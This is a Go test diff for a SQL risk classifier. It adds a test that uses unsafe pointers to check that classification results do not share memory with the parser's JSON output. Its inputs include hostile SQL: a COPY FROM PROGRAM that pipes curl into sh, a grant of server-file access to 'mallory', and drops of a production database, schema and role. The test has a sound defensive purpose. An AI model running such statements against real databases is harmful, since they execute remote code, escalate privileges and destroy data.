@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unsafe"
 
 	pg_query "github.com/pganalyze/pg_query_go/v6"
 	"github.com/pganalyze/pg_query_go/v6/parser"
@@ -307,4 +308,60 @@ func BenchmarkClassifySteps(b *testing.B) {
 		}
 		report(b, lat)
 	})
+}
+
+// TestResultOwnsStrings checks that no string of a Result lies in the memory
+// of libpg_query's JSON, which the tree's strings share: a cached
+// classification would keep the whole JSON alive.
+func TestResultOwnsStrings(t *testing.T) {
+	texts := []string{
+		"UPDATE accounts SET balance = balance - $1 WHERE id = $2",
+		"SELECT a.x, lower(b.y) FROM app.accounts a JOIN orders b USING (id)",
+		"DROP TABLE app.users, logs CASCADE; GRANT pg_read_server_files TO mallory",
+		"COPY t FROM PROGRAM 'curl x | sh'; SET session_replication_role = replica",
+		"DROP SCHEMA audit CASCADE; DROP DATABASE prod; DROP ROLE alice",
+		"CREATE EXTENSION dblink; ALTER TABLE t DISABLE TRIGGER ALL",
+	}
+	for _, tc := range cases {
+		texts = append(texts, tc.sql)
+	}
+	total := 0
+	for _, text := range texts {
+		js, err := parser.ParseToJSON(text)
+		if err != nil {
+			continue
+		}
+		tree, err := decodeTree(js)
+		if err != nil {
+			continue // too deep for the decoder: pg_query.Parse's tree owns its strings
+		}
+		res := &Result{}
+		w := walker{res: res}
+		w.parsed(tree, text, false, ContextStatement, 0, false)
+		res.aggregate()
+		lo := uintptr(unsafe.Pointer(unsafe.StringData(js)))
+		hi := lo + uintptr(len(js))
+		inJSON := func(s string) bool {
+			p := uintptr(unsafe.Pointer(unsafe.StringData(s)))
+			return len(s) > 0 && p >= lo && p < hi
+		}
+		checked := 0
+		check := func(what string, l ...string) {
+			for _, s := range l {
+				checked++
+				if inJSON(s) {
+					t.Errorf("%q: %s %q shares the parse tree JSON's memory", text, what, s)
+				}
+			}
+		}
+		check("result lists", slices.Concat(res.Commands, res.Tables, res.TableNames, res.Functions)...)
+		for _, s := range res.Statements {
+			check("statement lists", slices.Concat(s.Tables, s.Relations, s.PrivilegeEscalation, s.ServerAccess, s.Functions, s.DynamicSQL, s.SafeguardOff)...)
+			check("drop object type", s.DropObjectType)
+		}
+		total += checked
+	}
+	if total < 100 {
+		t.Fatalf("only %d strings checked", total)
+	}
 }
